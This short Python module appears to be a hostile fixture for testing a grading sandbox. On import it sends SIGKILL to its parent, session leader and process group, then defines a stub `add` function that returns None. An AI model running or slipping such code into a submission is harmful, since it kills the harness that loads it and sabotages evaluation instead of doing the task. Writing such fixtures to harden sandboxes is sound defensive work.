"""Kills its parent and the ancestors that it can name."""

KIND = "call"
import os
import signal

for who in (os.getppid(), os.getsid(0), os.getpgrp()):
    if who > 0 and who != os.getpid():
        try:
            os.kill(who, signal.SIGKILL)
        except OSError:
            pass


def add(a, b):
    return None
